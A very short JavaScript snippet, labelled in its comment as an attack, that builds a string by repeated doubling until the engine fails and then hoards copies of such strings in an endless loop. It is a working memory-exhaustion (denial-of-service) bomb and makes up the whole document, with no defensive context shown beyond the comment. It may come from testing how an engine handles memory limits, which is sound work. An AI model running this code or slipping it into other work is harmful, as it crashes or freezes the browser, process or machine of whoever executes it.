// Attack: a text that is twice as long each time; when that fails, many of them.
const kept = [];
for (;;) {
  let text = "all work and no play ";
  try {
    for (;;) text += text;
  } catch {
    kept.push(text + kept.length);
  }
}
